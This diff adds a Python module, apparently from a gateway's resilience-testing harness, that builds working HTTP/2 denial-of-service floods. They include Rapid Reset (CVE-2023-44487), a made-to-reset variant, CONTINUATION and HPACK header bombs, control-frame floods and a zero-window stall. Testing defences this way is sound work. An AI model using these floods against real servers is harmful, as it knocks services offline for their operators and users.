@@ -1,0 +1,141 @@
+"""Attackers over HTTP/2: connections that begin well and then send one kind of frame without end (RFC 9113 §10.5)."""
+
+import contextlib
+from collections.abc import Callable, Iterator
+from threading import Event
+
+import hpack
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    Frame,
+    HeadersFrame,
+    PingFrame,
+    PriorityFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+from floods.attacks import Attack, Target, connect, going_on, send
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+# Streams of one connection; then another is opened.
+STREAMS = 2_000
+# Frames in one piece.
+TOGETHER = 50
+
+
+def block(target: Target, path: str = "/page", *more: tuple[str, str]) -> bytes:
+    fields = [(":method", "GET"), (":scheme", "http"), (":authority", target.host), (":path", path), *more]
+    return hpack.Encoder().encode(fields)
+
+
+def headers(stream: int, fields: bytes, *flags: str) -> bytes:
+    return HeadersFrame(stream, fields, flags=list(flags)).serialize()
+
+
+def flood(frames: Callable[[Target], Iterator[bytes]]) -> Attack:
+    """Connections one after the other, each with these frames until they end or the gateway has enough."""
+    def attack(port: int, target: Target, stop: Event) -> int:
+        sent = 0
+        for _ in going_on(stop):
+            try:
+                with connect(port) as connection:
+                    connection.sendall(PREFACE + SettingsFrame(0).serialize())
+                    for piece in frames(target):
+                        if stop.is_set() or not send(connection, piece):
+                            break
+                        sent += 1
+            except OSError:
+                pass
+        return sent
+    return attack
+
+
+def rapid_reset(target: Target) -> Iterator[bytes]:
+    """CVE-2023-44487: streams that are opened and given up at once."""
+    fields = block(target)
+    for stream in range(1, STREAMS, 2):
+        yield headers(stream, fields, "END_HEADERS", "END_STREAM") + RstStreamFrame(stream, error_code=8).serialize()
+
+
+def made_to_reset(target: Target) -> Iterator[bytes]:
+    """CVE-2025-8671: the same, by faults that have the server give them up."""
+    fields = block(target)
+    for stream in range(1, STREAMS, 2):
+        yield headers(stream, fields, "END_HEADERS") + WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()
+
+
+def continuation(target: Target) -> Iterator[bytes]:
+    """A head that never ends."""
+    yield headers(1, block(target))
+    literal = hpack.Encoder().encode([("x-more", "y" * 1000)], huffman=False)
+    for _ in range(STREAMS):
+        yield ContinuationFrame(1, literal).serialize()
+
+
+def empty_continuation(target: Target) -> Iterator[bytes]:
+    """The same, of nothing."""
+    yield headers(1, block(target))
+    for _ in range(STREAMS):
+        yield ContinuationFrame(1, b"").serialize() * TOGETHER
+
+
+def many_headers(target: Target) -> Iterator[bytes]:
+    """An index of one byte for a header of four thousand, over and over."""
+    encoder = hpack.Encoder()
+    first = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", target.host), (":path", "/page"),
+                            ("x-bomb", "y" * 3900)])
+    yield headers(1, first, "END_HEADERS", "END_STREAM")
+    bomb = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", target.host), (":path", "/page"),
+                           *[("x-bomb", "y" * 3900)] * 4000])
+    for stream in range(3, STREAMS, 2):
+        yield headers(stream, bomb, "END_HEADERS", "END_STREAM")
+
+
+def over_and_over(frame: Frame) -> Callable[[Target], Iterator[bytes]]:
+    """One frame that says nothing."""
+    def frames(_: Target) -> Iterator[bytes]:
+        for _ in range(STREAMS):
+            yield frame.serialize() * TOGETHER
+    return frames
+
+
+def empty_data(target: Target) -> Iterator[bytes]:
+    """A body of nothing, in very many pieces."""
+    upload = [(":method", "POST"), (":scheme", "http"), (":authority", target.host), (":path", "/public/x")]
+    yield headers(1, hpack.Encoder().encode(upload), "END_HEADERS")
+    for _ in range(STREAMS):
+        yield DataFrame(1, b"").serialize() * TOGETHER
+
+
+def no_window(port: int, target: Target, stop: Event) -> int:
+    """Asks for much, lets nothing come, and waits. Not for all that it could: the upstream is not put to the test."""
+    closed = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
+    fields, asked = block(target, "/public/large"), 0
+    with contextlib.ExitStack() as all_:
+        for count in going_on(stop):
+            if count < 4:
+                with contextlib.suppress(OSError):
+                    connection = all_.enter_context(connect(port))
+                    streams = [headers(stream, fields, "END_HEADERS", "END_STREAM") for stream in range(1, 20, 2)]
+                    asked += len(streams) * send(connection, PREFACE + closed + b"".join(streams))
+            else:
+                stop.wait(0.2)
+    return asked
+
+
+ATTACKS: dict[str, Attack] = {
+    "rapid reset": flood(rapid_reset),
+    "made to reset": flood(made_to_reset),
+    "continuation": flood(continuation),
+    "empty continuation": flood(empty_continuation),
+    "a header bomb": flood(many_headers),
+    "pings": flood(over_and_over(PingFrame(0, b"01234567"))),
+    "settings": flood(over_and_over(SettingsFrame(0, settings={SettingsFrame.MAX_FRAME_SIZE: 16384}))),
+    "priorities": flood(over_and_over(PriorityFrame(1, depends_on=3, stream_weight=1))),
+    "window updates": flood(over_and_over(WindowUpdateFrame(0, window_increment=1))),
+    "empty data": flood(empty_data),
+    "no window": no_window,
+}
